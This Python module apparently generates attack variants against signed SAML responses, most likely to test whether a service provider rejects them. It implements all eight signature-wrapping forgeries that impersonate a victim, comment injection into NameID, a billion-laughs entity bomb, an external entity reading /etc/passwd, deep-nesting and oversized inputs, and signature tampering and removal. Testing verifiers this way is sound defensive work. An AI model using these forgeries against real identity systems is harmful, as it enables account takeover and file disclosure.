"""What strangers do to signed SAML answers on their way: signatures wrapped around something else, comments, entities, changed bytes."""
from xml.dom import minidom


def named(parent, name):
    return next((node for node in parent.childNodes if node.nodeType == node.ELEMENT_NODE and node.localName == name), None)


def within(parent, name):
    return parent.getElementsByTagNameNS("*", name)


def without_signature(node):
    copy = node.cloneNode(True)
    signature = named(copy, "Signature")
    if signature:
        copy.removeChild(signature)
    return copy


def forge(node, victim):
    """Makes somebody else of whom an assertion speaks, under another id."""
    node.setAttribute("ID", "_forged")
    for name_id in within(node, "NameID"):
        name_id.firstChild.data = victim
    for value in within(node, "AttributeValue"):
        if value.firstChild and "@" in value.firstChild.data:
            value.firstChild.data = victim
    return node


def xsw(variant, doc, victim):
    """One of the eight variants of "On Breaking SAML" (Somorovsky and others, 2012), as SAML Raider numbers them."""
    response = doc.documentElement
    assertion = named(response, "Assertion")
    if variant in (1, 2):
        signature, original = named(response, "Signature"), without_signature(response)
        if variant == 1:
            signature.appendChild(original)
        else:
            response.insertBefore(original, signature)
        forge(response, victim)
        forge(named(response, "Assertion"), victim).setAttribute("ID", "_forged_too")
    elif variant in (3, 4, 7):
        forged = forge(without_signature(assertion), victim)
        if variant == 3:
            response.insertBefore(forged, assertion)
        elif variant == 4:
            response.replaceChild(forged, assertion)
            forged.appendChild(assertion)
        else:
            extensions = doc.createElementNS(response.namespaceURI, f"{response.prefix}:Extensions")
            extensions.appendChild(forged)
            response.insertBefore(extensions, assertion)
    else:
        signature, original = named(assertion, "Signature"), without_signature(assertion)
        forge(assertion, victim)
        if variant == 5:
            response.appendChild(original)
        elif variant == 6:
            signature.appendChild(original)
        else:
            holder = doc.createElementNS(signature.namespaceURI, f"{signature.prefix}:Object")
            holder.appendChild(original)
            signature.appendChild(holder)


def comment(doc, victim):
    """Splits each text that begins with the victim's name by a comment behind it."""
    for node in [*within(doc, "NameID"), *within(doc, "AttributeValue")]:
        text = node.firstChild
        if text and text.data.startswith(victim) and text.data != victim:
            node.insertBefore(doc.createTextNode(victim), text)
            node.insertBefore(doc.createComment(""), text)
            text.data = text.data[len(victim):]


def attack(name, xml, victim):
    """Does something to an answer that is signed already."""
    if name == "entities":
        levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
        return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "0123456789">{levels}]>' + body(xml).replace(victim, "&e9;")
    if name == "external":
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body(xml).replace(victim, "&x;")
    if name == "deep":
        return body(xml).replace("Assertion>", "Assertion>" + "<a>" * 30000 + "</a>" * 30000, 1)
    if name == "huge":
        return body(xml).replace(victim, victim + "x" * 200_000)
    if name == "tampered":
        return xml.replace(victim, victim[::-1])
    doc = minidom.parseString(xml)
    if name == "comment":
        comment(doc, victim)
    elif name == "signature":
        value = within(doc, "SignatureValue")[0].firstChild
        place = len(value.data) // 2
        value.data = value.data[:place] + ("A" if value.data[place] != "A" else "B") + value.data[place + 1:]
    elif name == "unsigned":
        for node in [*within(doc, "Signature")]:
            node.parentNode.removeChild(node)
    elif name.startswith("xsw"):
        xsw(int(name[3:]), doc, victim)
    else:
        raise ValueError(name)
    return doc.documentElement.toxml()


def body(xml):
    return minidom.parseString(xml).documentElement.toxml()
